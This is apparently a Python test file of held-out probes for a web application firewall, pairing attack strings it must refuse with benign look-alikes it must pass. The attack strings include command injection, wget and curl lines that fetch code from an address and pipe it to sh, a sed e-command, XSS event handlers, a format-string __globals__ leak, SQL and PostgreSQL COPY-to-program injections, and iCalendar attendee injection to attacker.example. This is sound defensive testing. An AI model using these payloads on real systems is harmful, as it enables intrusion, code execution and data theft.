"""WAF, part 2z2: held-out probes, twenty-fifth file (README: the
thirty-second round), written for this file on 2026-12-05 after the
social and construction corpora (tests/corpus/social/,
tests/corpus/construction/) were first replayed, for the classes they
and earlier corpora showed. No string is taken from a corpus or a
public list: each class is written here in shapes of our own, through
the real edge (shipped config, bans off).

Look-alikes that must pass:
- caps-abbreviation: an abbreviation in capitals after a separator
  ("ID", "IRB"), alone at the end or followed by words;
- fetch-run: a code span that downloads a file without running it, an
  install line that names its host;
- ical-guest: a calendar pasted whole, the word attendee in a sentence;
- sed-e-command: two substitutions in a script;
- number-sets: a quantity then a rate in words;
- osm-oneway: an OSM tag list with "oneway=yes"; format-globals: a
  greeting's fields; copy-program: "copy the table" in a sentence.

Attacks that must be refused:
- caps-abbreviation: a command in capitals given an option or a path,
  or a case-blind system's command;
- fetch-run: a code span after text that fetches from an address and
  runs what it fetched (with "&&", ";" or a pipe to a shell);
- ical-guest: an iCalendar attendee or organizer with a mailto: on the
  line after a first line that is no field;
- sed-e-command (the construction corpus's): a sed substitution, then
  ";" and sed's e command, which runs its argument;
- number-sets (the construction corpus's): a number that ends an
  UPDATE's value, then assignments of literals to the end;
- osm-oneway, format-globals, copy-program (the aviation and gis
  corpora's): event handlers that start with "one" (onerror, onended)
  still count; a format string's field that ends at __globals__;
  PostgreSQL's COPY to a program or from a server file, a temporary
  table after ";".

Measured before the changes (2026-12-05, on 6cc85d4): the 4 fetch-run
and ical-guest attacks passed (the caps-abbreviation attacks bound the
change) and 2 of the 7 look-alikes were refused (the abbreviations
after "&" and ";"). After them: every attack refused, every look-alike
passes. The sed-e-command and number-sets classes were added after, their
4 attacks passing on 5b58fff; then the last three classes, checked on
36fa99f: 3 of their 6 attacks passed (a field ending at __globals__, the
two COPY and temporary-table statements; the others bound the changes)
and the oneway look-alike was refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "caps-abbreviation": ["x; CAT /etc/hosts", "x & WHOAMI", "q; UNAME -A"],
    "fetch-run": ["Gate shift swapped `wget -qO /tmp/g http://198.51.100.30/g && sh /tmp/g`",
                  "cake day `curl -so /tmp/k http://10.9.8.7/k; sh /tmp/k`"],
    "sed-e-command": ["s/old/new/;1e id", "s/A-1/A-2/g; e cat /etc/hosts"],
    "osm-oneway": ['x" onerror=alert(1) y="', 'q" onended=alert(2) r="'],
    "format-globals": ["{cart.__init__.__globals__}", "Hi {u.save.__globals__[KEY]}"],
    "copy-program": ["1; copy t to program 'id';--", "2; CREATE TEMPORARY TABLE q(a text);--"],
    "number-sets": ["42.5, discount = 0.99", "7, role = 'owner' -- "],
    "ical-guest": ["Quiz night 🎲\r\nATTENDEE;RSVP=TRUE:mailto:guests@attacker.example",
                   "Sprint demo\nORGANIZER;CN=Ops:mailto:ops@attacker.example"],
}

BENIGN = {
    "caps-abbreviation": ["Badge pickup: bring a photo & ID", "Status; IRB review next week",
                          "Skills: SQL; CAD drafting"],
    "fetch-run": ["see `wget http://10.9.8.7/disk.iso` for the image",
                  "Install with `curl -fsSL https://get.tool.example/i.sh -o i.sh` first"],
    "sed-e-command": ["s/colour/color/g; s/centre/center/g"],
    "osm-oneway": ["highway=service; oneway=yes; surface=gravel"],
    "format-globals": ["Hello {user.name}, your order {order.id} shipped"],
    "copy-program": ["copy the table from the appendix into the report"],
    "number-sets": ["12.5 m3, rate = 142 per m3", "5, size = 10 cm wide"],
    "ical-guest": ["BEGIN:VEVENT\nATTENDEE;CN=Kim:mailto:kim@example.org\nEND:VEVENT",
                   "Quiz night\nattendee list closes Friday"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r25_attack_refused_everywhere,
 test_heldout_r25_benign_passes) = heldout_probe_tests(
    "r25", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
